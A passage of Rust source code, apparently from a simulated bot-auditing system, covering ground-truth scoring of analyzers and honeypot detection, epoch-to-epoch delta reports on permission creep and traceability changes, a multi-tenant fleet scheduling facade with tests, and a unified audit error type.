            .map(|d| d.bot_name.as_str())
            .collect();
        for t in &truth.bots {
            if t.invite_class != InviteClass::Valid {
                continue;
            }
            let malicious = t.behavior != synth::truth::BehaviorClass::Benign;
            let predicted = detected.contains(&t.name.as_str());
            report.honeypot_detection.record(malicious, predicted);
        }
    }

    report
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::{AuditConfig, AuditPipeline};
    use synth::{build_ecosystem, EcosystemConfig};

    #[test]
    fn analyzer_score_math() {
        let mut s = AnalyzerScore::default();
        s.record(true, true);
        s.record(true, false);
        s.record(false, false);
        s.record(false, true);
        assert_eq!(s.total(), 4);
        assert!((s.precision() - 0.5).abs() < 1e-9);
        assert!((s.recall() - 0.5).abs() < 1e-9);
        let empty = AnalyzerScore::default();
        assert_eq!(empty.precision(), 1.0);
        assert_eq!(empty.recall(), 1.0);
    }

    #[test]
    fn pipeline_scores_perfectly_on_clean_world() {
        // With no adversarial noise beyond what synth plants, every static
        // analyzer should recover the truth exactly.
        let eco = build_ecosystem(&EcosystemConfig::test_scale(250, 123));
        let pipeline = AuditPipeline::new(AuditConfig {
            honeypot_sample: 20,
            ..AuditConfig::default()
        });
        let (bots, _) = pipeline.run_static_stages(&eco.net);
        let campaign = pipeline.run_honeypot(&eco);
        let v = validate_against_truth(&bots, &eco.truth, Some(&campaign));

        assert_eq!(
            v.invite_validity.precision(),
            1.0,
            "{:?}",
            v.invite_validity
        );
        assert_eq!(v.invite_validity.recall(), 1.0);
        assert_eq!(
            v.policy_discovery.precision(),
            1.0,
            "{:?}",
            v.policy_discovery
        );
        assert_eq!(v.policy_discovery.recall(), 1.0);
        assert!(
            v.traceability_agreement > 0.99,
            "{}",
            v.traceability_agreement
        );
        assert_eq!(
            v.repo_resolution.precision(),
            1.0,
            "{:?}",
            v.repo_resolution
        );
        assert_eq!(v.repo_resolution.recall(), 1.0);
        assert_eq!(
            v.check_detection.precision(),
            1.0,
            "{:?}",
            v.check_detection
        );
        assert_eq!(v.check_detection.recall(), 1.0);
        // Honeypot: the planted snooper sits in the tested top-20 and is
        // found; no benign bot is accused.
        assert_eq!(v.honeypot_detection.fp, 0);
        assert_eq!(v.honeypot_detection.tp, 1);
    }
}
