//! Longitudinal deltas between two audits of the same tenant's world.
//!
//! A fleet tenant re-auditing epoch N+1 cares less about the full
//! [`CanonicalReport`] (which it already has for epoch N) than about what
//! *moved*: which bots drifted at all, whose traceability classification
//! flipped, who quietly gained permissions, and which bots the honeypot
//! newly caught. [`DeltaReport::between`] computes exactly that, purely
//! from two canonical reports — it is therefore as deterministic as the
//! reports themselves.

use crate::report::{CanonicalBot, CanonicalReport};
use crawler::invite::InviteStatus;
use policy::Traceability;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// One bot whose traceability classification changed between epochs.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct TraceabilityTransition {
    /// Client id (stable across epochs for installable bots).
    pub id: u64,
    /// Bot name (the cross-epoch join key).
    pub name: String,
    /// Classification in the earlier report.
    pub from: Traceability,
    /// Classification in the later report.
    pub to: Traceability,
}

/// One bot whose requested permission set changed between epochs.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct PermissionChange {
    /// Bot name.
    pub name: String,
    /// Permissions present now but not before — permission creep.
    pub added: Vec<String>,
    /// Permissions present before but not now.
    pub removed: Vec<String>,
}

/// What changed between two audits of the same world.
///
/// Produced by the fleet service alongside every re-audit (epoch ≥ 1);
/// also constructible directly from any two [`CanonicalReport`]s.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, Default)]
pub struct DeltaReport {
    /// The substrate both compared reports were measured on.
    pub platform: platform::PlatformKind,
    /// The epoch of the earlier report (0 when the caller did not stamp
    /// provenance — [`Self::between`] leaves both fields at their
    /// defaults, [`Self::between_at`] fills them in).
    pub prev_epoch: u32,
    /// The epoch of the later report.
    pub epoch: u32,
    /// Bots whose canonical record changed in any observable way.
    pub drifted: Vec<String>,
    /// Bots whose canonical record is identical in both reports.
    pub unchanged: usize,
    /// Bots present only in the later report.
    pub appeared: Vec<String>,
    /// Bots present only in the earlier report.
    pub disappeared: Vec<String>,
    /// Traceability flips (complete → partial → broken and back).
    pub traceability_transitions: Vec<TraceabilityTransition>,
    /// Permission-set changes among installable bots.
    pub permission_changes: Vec<PermissionChange>,
    /// Honeypot detections present only in the later report — bots that
    /// started leaking.
    pub new_detections: Vec<String>,
    /// Honeypot detections present only in the earlier report.
    pub resolved_detections: Vec<String>,
}

fn permission_names(status: &InviteStatus) -> Vec<String> {
    match status {
        InviteStatus::Valid { permissions, .. } => {
            permissions.names().iter().map(|s| s.to_string()).collect()
        }
        _ => Vec::new(),
    }
}

impl DeltaReport {
    /// Diff `next` against `prev`, joining bots by name (listing names are
    /// stable across drift epochs; client ids only exist for installable
    /// bots). Output vectors follow `next`'s listing order, so the delta
    /// is byte-identical whenever the two input reports are.
    pub fn between(prev: &CanonicalReport, next: &CanonicalReport) -> DeltaReport {
        let before: BTreeMap<&str, &CanonicalBot> =
            prev.bots.iter().map(|b| (b.name.as_str(), b)).collect();
        let after: BTreeMap<&str, &CanonicalBot> =
            next.bots.iter().map(|b| (b.name.as_str(), b)).collect();

        let mut delta = DeltaReport {
            platform: next.platform,
            ..DeltaReport::default()
        };

        for bot in &next.bots {
            let Some(old) = before.get(bot.name.as_str()) else {
                delta.appeared.push(bot.name.clone());
                continue;
            };
            if *old == bot {
                delta.unchanged += 1;
                continue;
            }
            delta.drifted.push(bot.name.clone());

            let from = old.traceability.classification;
            let to = bot.traceability.classification;
            if from != to {
                delta.traceability_transitions.push(TraceabilityTransition {
                    id: bot.id,
                    name: bot.name.clone(),
                    from,
                    to,
                });
            }

            let old_perms = permission_names(&old.invite_status);
            let new_perms = permission_names(&bot.invite_status);
            let added: Vec<String> = new_perms
                .iter()
                .filter(|p| !old_perms.contains(p))
                .cloned()
                .collect();
            let removed: Vec<String> = old_perms
                .iter()
                .filter(|p| !new_perms.contains(p))
                .cloned()
                .collect();
            if !added.is_empty() || !removed.is_empty() {
                delta.permission_changes.push(PermissionChange {
                    name: bot.name.clone(),
                    added,
                    removed,
                });
            }
        }
        for bot in &prev.bots {
            if !after.contains_key(bot.name.as_str()) {
                delta.disappeared.push(bot.name.clone());
            }
        }

        let detected = |r: &CanonicalReport| -> Vec<String> {
            r.honeypot
                .as_ref()
                .map(|c| c.detections.iter().map(|d| d.bot_name.clone()).collect())
                .unwrap_or_default()
        };
        let prev_det = detected(prev);
        let next_det = detected(next);
        delta.new_detections = next_det
            .iter()
            .filter(|n| !prev_det.contains(n))
            .cloned()
            .collect();
        delta.resolved_detections = prev_det
            .iter()
            .filter(|n| !next_det.contains(n))
            .cloned()
            .collect();

        delta
    }

    /// [`Self::between`], with epoch provenance stamped in — the form the
    /// fleet layer commits to epoch chains, where frames must be
    /// self-describing rather than relying on submission order.
    pub fn between_at(
        prev: &CanonicalReport,
        next: &CanonicalReport,
        prev_epoch: u32,
        epoch: u32,
    ) -> DeltaReport {
        DeltaReport {
            prev_epoch,
            epoch,
            ..DeltaReport::between(prev, next)
        }
    }

    /// Bots whose *crawled* record moved — the drift an incremental
    /// crawler can see from listing pages alone. Every entry of
    /// [`Self::drifted`] qualifies: a [`CanonicalBot`] only holds fields
    /// derived from the bot's pages (and the static/policy analyses of
    /// them), so any change here was crawl-visible. These are exactly the
    /// pages a warm re-audit pays a full fetch for.
    pub fn crawl_visible(&self) -> &[String] {
        &self.drifted
    }

    /// Bots that moved only in *dynamic analysis* — honeypot detections
    /// appeared or resolved while every crawled byte stayed identical
    /// (e.g. a behavior flip: the listing page never mentions what the
    /// bot does with a token). A warm re-audit still catches these
    /// because honeypot guilds are keyed by behavior class, not by page
    /// content alone; the crawl layer contributes nothing to them.
    pub fn analysis_only(&self) -> Vec<String> {
        let moved = |name: &String| {
            !self.drifted.contains(name)
                && !self.appeared.contains(name)
                && !self.disappeared.contains(name)
        };
        let mut names: Vec<String> = self
            .new_detections
            .iter()
            .chain(self.resolved_detections.iter())
            .filter(|n| moved(n))
            .cloned()
            .collect();
        names.sort_unstable();
        names.dedup();
        names
    }

    /// Whether the two reports were observably identical.
    pub fn is_empty(&self) -> bool {
        self.drifted.is_empty()
            && self.appeared.is_empty()
            && self.disappeared.is_empty()
            && self.new_detections.is_empty()
            && self.resolved_detections.is_empty()
    }

    /// One-line human summary for logs and examples.
    pub fn summary(&self) -> String {
        format!(
            "{} drifted / {} unchanged; {} traceability flips; {} permission changes; +{}/-{} detections",
            self.drifted.len(),
            self.unchanged,
            self.traceability_transitions.len(),
            self.permission_changes.len(),
            self.new_detections.len(),
            self.resolved_detections.len(),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::Audit;
    use synth::DriftConfig;

    fn report(epoch: u32) -> CanonicalReport {
        Audit::builder()
            .scale(40)
            .seed(2022)
            .honeypot_sample(5)
            .site_defenses(false)
            .drift(DriftConfig::default())
            .epoch(epoch)
            .build()
            .unwrap()
            .run()
            .unwrap()
    }

    #[test]
    fn identical_reports_have_an_empty_delta() {
        let r = report(0);
        let d = DeltaReport::between(&r, &r);
        assert!(d.is_empty());
        assert_eq!(d.unchanged, r.bots.len());
    }

    #[test]
    fn drifted_epoch_produces_a_nonempty_delta() {
        let r0 = report(0);
        let r1 = report(1);
        let d = DeltaReport::between(&r0, &r1);
        assert!(!d.is_empty(), "default drift rates must move something");
        assert_eq!(d.drifted.len() + d.unchanged, r1.bots.len());
        assert!(d.appeared.is_empty() && d.disappeared.is_empty());
        // Permission creep only ever adds bits.
        for change in &d.permission_changes {
            assert!(change.removed.is_empty(), "{change:?}");
        }
    }

    #[test]
    fn crawl_visible_and_analysis_only_partition_the_drift() {
        // Behavior flips only: no crawled byte moves, but honeypot
        // detections can appear or resolve — pure analysis-only drift.
        let job = |epoch: u32| {
            Audit::builder()
                .scale(40)
                .seed(2022)
                .honeypot_sample(10)
                .site_defenses(false)
                .drift(synth::DriftConfig {
                    permission_creep: 0.0,
                    policy_churn: 0.0,
                    github_churn: 0.0,
                    behavior_churn: 0.5,
                })
                .epoch(epoch)
                .build()
                .unwrap()
                .run()
                .unwrap()
        };
        let d = DeltaReport::between(&job(0), &job(1));
        assert!(
            d.drifted.is_empty(),
            "behavior flips must not touch crawled records: {:?}",
            d.drifted
        );
        assert_eq!(d.crawl_visible(), &[] as &[String]);
        let analysis = d.analysis_only();
        assert!(
            !analysis.is_empty(),
            "a 50% flip rate over 10 sampled bots must move a detection"
        );
        for name in &analysis {
            assert!(!d.crawl_visible().contains(name));
        }

        // Mixed drift: the two views stay disjoint.
        let r0 = report(0);
        let r1 = report(1);
        let mixed = DeltaReport::between(&r0, &r1);
        assert_eq!(mixed.crawl_visible(), mixed.drifted.as_slice());
        for name in mixed.analysis_only() {
            assert!(!mixed.crawl_visible().contains(&name), "{name} in both");
        }
    }

    #[test]
    fn between_at_stamps_epoch_provenance() {
        let r0 = report(0);
        let r1 = report(1);
        let plain = DeltaReport::between(&r0, &r1);
        assert_eq!((plain.prev_epoch, plain.epoch), (0, 0));
        let stamped = DeltaReport::between_at(&r0, &r1, 3, 5);
        assert_eq!((stamped.prev_epoch, stamped.epoch), (3, 5));
        // Provenance is the only difference.
        let mut unstamped = stamped.clone();
        unstamped.prev_epoch = 0;
        unstamped.epoch = 0;
        assert_eq!(unstamped, plain);
        // And it survives a serde roundtrip (chain frames are JSON).
        let back: DeltaReport =
            serde_json::from_str(&serde_json::to_string(&stamped).unwrap()).unwrap();
        assert_eq!(back, stamped);
    }

    #[test]
    fn delta_is_deterministic() {
        let r0 = report(0);
        let r1 = report(1);
        let a = DeltaReport::between(&r0, &r1);
        let b = DeltaReport::between(&r0, &r1);
        assert_eq!(
            serde_json::to_string(&a).unwrap(),
            serde_json::to_string(&b).unwrap()
        );
    }
}
