//! The fleet service: audits as a long-running, multi-tenant operation.
//!
//! The paper's measurement was one batch crawl. Run as a *service* —
//! several teams re-auditing their bot populations on their own cadences —
//! the same pipeline needs an admission-controlled queue, fair scheduling
//! across tenants, and an incremental path so that re-auditing a world in
//! which 4% of bots drifted does not redo 100% of the analysis.
//!
//! [`FleetService`] composes those pieces:
//!
//! * a [`sched::Scheduler`] provides lanes, deadlines, bounded admission
//!   and per-tenant rate limits, all on the shared virtual clock;
//! * every tenant gets its own journal + artifact pack, namespaced inside
//!   one root [`Backend`] via [`ScopedBackend`] — so a tenant's epoch-N+1
//!   audit re-analyzes only bots whose content hash changed since epoch N
//!   (the warm pack serves the rest);
//! * each completed job carries the full [`CanonicalReport`] *and* a
//!   [`DeltaReport`] against the tenant's previous run — traceability
//!   flips, permission creep, newly leaking honeypot bots.
//!
//! Everything observable (reports, deltas, hit counters, `sched.*`
//! metrics and spans) is byte-identical at any worker count; the
//! `sched_determinism` integration suite pins this.
//!
//! Since the service API redesign, [`FleetService`] is a thin facade
//! over the always-on [`FleetDaemon`](crate::FleetDaemon) pinned to
//! legacy batch semantics (no fairness quantum, no deadline expiry, no
//! preemption slicing): `submit` + `run` keep working byte-for-byte,
//! while new callers drive the daemon loop directly.

use crate::audit::Audit;
use crate::daemon::{FleetDaemon, FleetDaemonConfig};
use crate::delta::DeltaReport;
use crate::error::AuditError;
use crate::report::CanonicalReport;
use netsim::VirtualClock;
use obs::Obs;
use sched::{JobId, JobSpec, TenantRate};
use std::sync::Arc;
use store::{Backend, MemBackend};

/// Fleet-level configuration (the scheduler knobs, re-exported shape).
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct FleetConfig {
    /// Maximum jobs queued between [`FleetService::run`] calls.
    pub queue_capacity: usize,
    /// Worker threads multiplexed across in-flight audits. Reports are
    /// byte-identical at any value.
    pub workers: usize,
    /// Optional per-tenant submission rate limit on the virtual clock.
    pub tenant_rate: Option<TenantRate>,
}

impl Default for FleetConfig {
    fn default() -> Self {
        FleetConfig {
            queue_capacity: 64,
            workers: 1,
            tenant_rate: None,
        }
    }
}

/// A validated audit wrapped for fleet submission. Obtained from
/// [`AuditBuilder::into_job`](crate::AuditBuilder::into_job).
pub struct AuditJob {
    audit: Audit,
}

impl std::fmt::Debug for AuditJob {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("AuditJob")
            .field("audit", &self.audit)
            .finish()
    }
}

impl AuditJob {
    pub(crate) fn new(audit: Audit) -> AuditJob {
        AuditJob { audit }
    }

    pub(crate) fn audit(&self) -> &Audit {
        &self.audit
    }

    /// The wrapped audit's drift epoch.
    pub fn epoch(&self) -> u32 {
        self.audit.epoch()
    }
}

/// What the service returns for one completed audit job.
pub struct JobOutcome {
    /// Scheduler job id.
    pub id: JobId,
    /// Owning tenant.
    pub tenant: String,
    /// Which substrate the tenant's world mounts on — a heterogeneous
    /// fleet mixes Discord and Telegram tenants in one queue.
    pub platform: platform::PlatformKind,
    /// Drift epoch the audit observed.
    pub epoch: u32,
    /// Virtual milliseconds the job waited in the queue.
    pub wait_ms: u64,
    /// The full canonical report (byte-identical at any worker count).
    pub report: Result<CanonicalReport, AuditError>,
    /// Delta against this tenant's previous successful report, when one
    /// exists.
    pub delta: Option<DeltaReport>,
    /// Analysis artifacts served from the tenant's warm pack — for an
    /// incremental re-audit this counts the bots that did *not* drift.
    pub artifact_hits: u64,
    /// Analysis artifacts recomputed — the drifted bots (plus everything,
    /// on a tenant's first audit).
    pub artifact_misses: u64,
}

/// One substrate's slice of a drained heterogeneous fleet: the same
/// methodology measured on both platforms, side by side — the paper's §6
/// cross-ecosystem comparison as a first-class output.
#[derive(Debug, Clone, PartialEq, serde::Serialize)]
pub struct PlatformBreakdown {
    /// The substrate this row aggregates.
    pub platform: platform::PlatformKind,
    /// Successful audits on this substrate.
    pub audits: u64,
    /// Bots crawled across those audits.
    pub bots: u64,
    /// Bots whose policy traces every requested permission.
    pub complete_traceability: u64,
    /// Bots with no usable policy at all.
    pub broken_traceability: u64,
    /// Honeypot detections attributed across those audits.
    pub detections: u64,
    /// Analysis artifacts served warm across those audits.
    pub artifact_hits: u64,
    /// Analysis artifacts recomputed across those audits.
    pub artifact_misses: u64,
}

/// Roll a drained fleet up per substrate, in canonical platform order.
/// Rows only appear for platforms that completed at least one audit; the
/// aggregation is a pure fold over [`JobOutcome`]s, so it is byte-identical
/// whenever the outcomes are.
pub fn platform_breakdown(outcomes: &[JobOutcome]) -> Vec<PlatformBreakdown> {
    platform::PlatformKind::ALL
        .iter()
        .filter_map(|&kind| {
            let mut row = PlatformBreakdown {
                platform: kind,
                audits: 0,
                bots: 0,
                complete_traceability: 0,
                broken_traceability: 0,
                detections: 0,
                artifact_hits: 0,
                artifact_misses: 0,
            };
            for outcome in outcomes.iter().filter(|o| o.platform == kind) {
                let Ok(report) = &outcome.report else {
                    continue;
                };
                row.audits += 1;
                row.bots += report.bots.len() as u64;
                for bot in &report.bots {
                    match bot.traceability.classification {
                        policy::Traceability::Complete => row.complete_traceability += 1,
                        policy::Traceability::Broken => row.broken_traceability += 1,
                        policy::Traceability::Partial => {}
                    }
                }
                if let Some(hp) = &report.honeypot {
                    row.detections += hp.detections.len() as u64;
                }
                row.artifact_hits += outcome.artifact_hits;
                row.artifact_misses += outcome.artifact_misses;
            }
            (row.audits > 0).then_some(row)
        })
        .collect()
}

/// Batch-style multi-tenant audit service over one shared worker pool —
/// the legacy facade over [`FleetDaemon`](crate::FleetDaemon).
pub struct FleetService {
    daemon: FleetDaemon,
}

impl FleetService {
    /// A service journaling every tenant into a private in-memory store.
    pub fn new(config: FleetConfig) -> FleetService {
        FleetService::with_backend(config, Arc::new(MemBackend::new()))
    }

    /// A service with an explicit root backend (e.g. a
    /// [`store::DiskBackend`] to persist tenant journals and artifact
    /// packs across process restarts). Each tenant's store is scoped
    /// under `<tenant>/` inside the root.
    pub fn with_backend(config: FleetConfig, root: Arc<dyn Backend>) -> FleetService {
        let clock = VirtualClock::new();
        let obs = Obs::disabled();
        FleetService::assemble(config, root, clock, obs)
    }

    /// Full control: supply the virtual clock and observability handle
    /// (attach a tracing recorder to capture the deterministic `sched.*`
    /// span tree).
    pub fn with_obs(
        config: FleetConfig,
        root: Arc<dyn Backend>,
        clock: VirtualClock,
        obs: Obs,
    ) -> FleetService {
        FleetService::assemble(config, root, clock, obs)
    }

    fn assemble(
        config: FleetConfig,
        root: Arc<dyn Backend>,
        clock: VirtualClock,
        obs: Obs,
    ) -> FleetService {
        // Legacy batch semantics: quantum 0 (every drain runs the whole
        // queue in one global (lane, deadline, id) sort), no expiry, no
        // preemption slicing.
        let daemon = FleetDaemon::with_obs(
            FleetDaemonConfig {
                queue_capacity: config.queue_capacity,
                workers: config.workers,
                tenant_rate: config.tenant_rate,
                quantum: 0,
                batch_slice_frames: None,
                tick_ms: FleetDaemonConfig::default().tick_ms,
            },
            root,
            clock,
            obs,
        );
        FleetService { daemon }
    }

    /// The virtual clock the service (and its rate limiter) runs on.
    /// Advancing it is the driver's job, exactly as in the simulator.
    pub fn clock(&self) -> &VirtualClock {
        self.daemon.clock()
    }

    /// The observability handle (`sched.*`, `store.*`, stage metrics).
    pub fn obs(&self) -> &Obs {
        self.daemon.obs()
    }

    /// Jobs currently queued.
    pub fn queued(&self) -> usize {
        self.daemon.queued()
    }

    /// Submit a job for `spec.tenant`. Fails with [`AuditError::Config`]
    /// when the tenant id is path-shaped (it would escape the tenant's
    /// store namespace) and with [`AuditError::Saturated`] when the
    /// queue is full or the tenant is over its rate — deterministically,
    /// given the same submission sequence at the same virtual times.
    ///
    /// Unlike [`FleetDaemon::submit`](crate::FleetDaemon::submit), a
    /// deadline already in the past is accepted: this facade never
    /// expires jobs, so a stale deadline is merely an ordering hint.
    pub fn submit(&self, spec: JobSpec, job: AuditJob) -> Result<JobId, AuditError> {
        self.daemon
            .admit(spec, job, false)
            .map(|handle| handle.id())
    }

    /// Drain the queue: run every admitted job across the worker pool and
    /// return outcomes in dispatch order. Jobs of one tenant run
    /// sequentially against that tenant's scoped store (so a re-audit
    /// finds the warm artifact pack its predecessor wrote); different
    /// tenants run concurrently.
    pub fn run(&self) -> Vec<JobOutcome> {
        self.daemon.drain_queue();
        self.daemon.poll_outcomes()
    }

    /// A tenant's committed epoch records, genesis first — the persisted
    /// oplog chain, answered without replaying any audit. See
    /// [`FleetDaemon::history`](crate::FleetDaemon::history).
    pub fn history(&self, tenant: &str) -> Result<Vec<oplog::EpochRecord>, AuditError> {
        self.daemon.history(tenant)
    }

    /// Materialized trend views over a tenant's chain. See
    /// [`FleetDaemon::trends`](crate::FleetDaemon::trends).
    pub fn trends(&self, tenant: &str) -> Result<oplog::TrendQuery, AuditError> {
        self.daemon.trends(tenant)
    }

    /// Fleet-wide per-platform drift curves. See
    /// [`FleetDaemon::fleet_trends`](crate::FleetDaemon::fleet_trends).
    pub fn fleet_trends(&self) -> Result<Vec<oplog::PlatformDrift>, AuditError> {
        self.daemon.fleet_trends()
    }

    /// Snapshot tenant `src` into fresh tenant `dst` for a what-if
    /// re-audit. See
    /// [`FleetDaemon::clone_tenant`](crate::FleetDaemon::clone_tenant).
    pub fn clone_tenant(&self, src: &str, dst: &str) -> Result<oplog::EpochRecord, AuditError> {
        self.daemon.clone_tenant(src, dst)
    }

    /// Generational pack compaction for one tenant. Call between [`run`]
    /// drains only. See
    /// [`FleetDaemon::compact_tenant`](crate::FleetDaemon::compact_tenant).
    ///
    /// [`run`]: Self::run
    pub fn compact_tenant(
        &self,
        tenant: &str,
        keep_last: usize,
    ) -> Result<oplog::CompactionOutcome, AuditError> {
        self.daemon.compact_tenant(tenant, keep_last)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::Audit;
    use crate::error::ErrorKind;
    use sched::Lane;

    fn job(seed: u64, epoch: u32) -> AuditJob {
        Audit::builder()
            .scale(30)
            .seed(seed)
            .honeypot_sample(4)
            .site_defenses(false)
            .drift(synth::DriftConfig::default())
            .epoch(epoch)
            .into_job()
            .unwrap()
    }

    #[test]
    fn single_tenant_roundtrip_produces_report_and_delta() {
        let service = FleetService::new(FleetConfig::default());
        service.submit(JobSpec::new("acme"), job(2022, 0)).unwrap();
        let first = service.run();
        assert_eq!(first.len(), 1);
        assert!(first[0].report.is_ok());
        assert!(first[0].delta.is_none(), "no previous report to diff");
        assert!(first[0].artifact_misses > 0, "cold run analyzes everything");
        assert_eq!(first[0].artifact_hits, 0);

        service
            .submit(JobSpec::new("acme").lane(Lane::Interactive), job(2022, 1))
            .unwrap();
        let second = service.run();
        let outcome = &second[0];
        assert!(outcome.report.is_ok());
        let delta = outcome.delta.as_ref().expect("second run diffs the first");
        assert!(!delta.is_empty());
        assert!(
            outcome.artifact_hits > 0,
            "undrifted bots must come from the warm pack"
        );
    }

    #[test]
    fn facade_accepts_epoch_resubmission_without_forking_the_chain() {
        let service = FleetService::new(FleetConfig::default());
        service.submit(JobSpec::new("acme"), job(2022, 0)).unwrap();
        assert!(service.run()[0].report.is_ok());
        // Legacy batch semantics admit a deliberate re-run of epoch 0
        // (the strict daemon path would reject it)...
        service.submit(JobSpec::new("acme"), job(2022, 0)).unwrap();
        assert!(service.run()[0].report.is_ok());
        // ...but the persisted chain never forks: epoch 0 stays a single
        // committed record.
        let history = service.history("acme").unwrap();
        assert_eq!(history.iter().map(|r| r.epoch).collect::<Vec<_>>(), [0]);
        assert_eq!(service.obs().counter_value("oplog.append_skipped"), 1);
    }

    #[test]
    fn saturation_surfaces_as_typed_audit_error() {
        let service = FleetService::new(FleetConfig {
            queue_capacity: 1,
            ..FleetConfig::default()
        });
        service.submit(JobSpec::new("a"), job(7, 0)).unwrap();
        let err = service.submit(JobSpec::new("b"), job(7, 0)).unwrap_err();
        assert_eq!(err.kind(), ErrorKind::Saturated);
        assert_eq!(err.kind().as_str(), "saturated");
    }

    #[test]
    fn path_shaped_tenant_ids_are_rejected_before_queueing() {
        let service = FleetService::new(FleetConfig::default());
        for bad in ["", ".", "..", "a/b", "a\\b", "../escape"] {
            let err = service.submit(JobSpec::new(bad), job(7, 0)).unwrap_err();
            assert_eq!(err.kind(), ErrorKind::Config, "tenant {bad:?}");
        }
        assert_eq!(service.queued(), 0, "rejected jobs must not be queued");
    }

    #[test]
    fn disk_backend_persists_tenant_packs_across_service_restarts() {
        let dir = std::env::temp_dir().join(format!("fleet-disk-test-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);

        let service = FleetService::with_backend(
            FleetConfig::default(),
            Arc::new(store::DiskBackend::open(&dir).unwrap()),
        );
        service.submit(JobSpec::new("acme"), job(2022, 0)).unwrap();
        let first = service.run();
        assert!(first[0].report.is_ok(), "disk-backed audit must complete");
        assert!(first[0].artifact_misses > 0);
        drop(service);

        // A fresh service over the same root finds the warm pack.
        let revived = FleetService::with_backend(
            FleetConfig::default(),
            Arc::new(store::DiskBackend::open(&dir).unwrap()),
        );
        revived.submit(JobSpec::new("acme"), job(2022, 1)).unwrap();
        let second = revived.run();
        assert!(second[0].report.is_ok());
        assert!(
            second[0].artifact_hits > 0,
            "undrifted bots must come from the persisted pack"
        );
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn tenants_do_not_share_artifact_packs() {
        let service = FleetService::new(FleetConfig {
            workers: 2,
            ..FleetConfig::default()
        });
        service.submit(JobSpec::new("a"), job(5, 0)).unwrap();
        service.submit(JobSpec::new("b"), job(5, 0)).unwrap();
        let outcomes = service.run();
        // Same world, but tenant b's cold run cannot hit tenant a's pack.
        for o in &outcomes {
            assert_eq!(o.artifact_hits, 0, "tenant {} leaked a pack", o.tenant);
        }
    }
}
