//! The unified error surface for the audit facade.
//!
//! The pipeline crosses five crates that each grew their own error enum —
//! [`PlatformError`] (discord-sim), [`NetError`] (netsim), [`StoreError`]
//! (store), [`ResumeError`] (this crate), [`LocateError`] (htmlsim). Code
//! driving a whole audit should not have to name all five: everything
//! converges on [`AuditError`] via `From`, and callers that only need to
//! branch coarsely (retry? resume? give up?) match on the stable
//! [`AuditError::kind`] instead of the carried payloads.

use crate::resume::ResumeError;
use discord_sim::PlatformError;
use htmlsim::LocateError;
use netsim::NetError;
use std::fmt;
use store::StoreError;

/// Any failure an audit run can surface, from any layer.
///
/// Every constituent error converts in with `?` / `From`; the original
/// payload is preserved in the variant. [`Self::kind`] gives a stable,
/// payload-free discriminant for coarse handling and logging.
#[derive(Debug)]
#[non_exhaustive]
pub enum AuditError {
    /// The builder rejected its inputs before anything ran.
    Config {
        /// What was wrong.
        reason: String,
    },
    /// The simulated platform refused an action (permissions, hierarchy,
    /// missing entity, ...).
    Platform(PlatformError),
    /// The network fabric failed a request (timeout, DNS, rate limit, ...).
    Net(NetError),
    /// The crash-safe store's backend failed.
    Store(StoreError),
    /// An HTML locator failed during extraction.
    Locate(LocateError),
    /// The armed kill switch fired mid-run (the simulated crash). Every
    /// frame written before the crash is durable and will replay.
    Interrupted {
        /// Journal frames durably written before the simulated crash.
        frames_written: u64,
    },
    /// The fleet scheduler refused the submission (queue full or tenant
    /// over its rate). Deterministic: the same submission sequence at the
    /// same virtual times is refused identically on every run.
    Saturated(sched::Rejection),
    /// The job was still queued when its deadline passed, so the daemon
    /// dropped it without running it. Deterministic: expiry is decided on
    /// the virtual clock at tick boundaries, never by wall time.
    Expired {
        /// The virtual-clock deadline that passed, in milliseconds.
        deadline_ms: u64,
        /// How far past the deadline the expiring tick ran, in
        /// milliseconds.
        late_by_ms: u64,
    },
}

/// Payload-free discriminant of an [`AuditError`], stable across releases.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[non_exhaustive]
pub enum ErrorKind {
    /// Invalid builder configuration.
    Config,
    /// Platform (discord-sim) refusal.
    Platform,
    /// Network fabric failure.
    Net,
    /// Storage backend failure.
    Store,
    /// HTML locator failure.
    Locate,
    /// Simulated crash: resume to continue.
    Interrupted,
    /// Scheduler admission control refused the job.
    Saturated,
    /// The job's deadline passed while it was still queued.
    Expired,
}

impl ErrorKind {
    /// The pinned wire/log name of this kind. These strings are a stable
    /// contract (tests pin every one): `"config"`, `"platform"`, `"net"`,
    /// `"store"`, `"locate"`, `"interrupted"`, `"saturated"`,
    /// `"expired"`. New variants
    /// may appear (the enum is `#[non_exhaustive]`) but existing names
    /// never change.
    pub fn as_str(self) -> &'static str {
        match self {
            ErrorKind::Config => "config",
            ErrorKind::Platform => "platform",
            ErrorKind::Net => "net",
            ErrorKind::Store => "store",
            ErrorKind::Locate => "locate",
            ErrorKind::Interrupted => "interrupted",
            ErrorKind::Saturated => "saturated",
            ErrorKind::Expired => "expired",
        }
    }
}

impl fmt::Display for ErrorKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl AuditError {
    /// The stable discriminant for coarse matching.
    pub fn kind(&self) -> ErrorKind {
        match self {
            AuditError::Config { .. } => ErrorKind::Config,
            AuditError::Platform(_) => ErrorKind::Platform,
            AuditError::Net(_) => ErrorKind::Net,
            AuditError::Store(_) => ErrorKind::Store,
            AuditError::Locate(_) => ErrorKind::Locate,
            AuditError::Interrupted { .. } => ErrorKind::Interrupted,
            AuditError::Saturated(_) => ErrorKind::Saturated,
            AuditError::Expired { .. } => ErrorKind::Expired,
        }
    }

    /// Shorthand for a [`AuditError::Config`] with a formatted reason.
    pub(crate) fn config(reason: impl Into<String>) -> AuditError {
        AuditError::Config {
            reason: reason.into(),
        }
    }
}

impl fmt::Display for AuditError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AuditError::Config { reason } => write!(f, "invalid audit configuration: {reason}"),
            AuditError::Platform(e) => write!(f, "platform error: {e}"),
            AuditError::Net(e) => write!(f, "network error: {e}"),
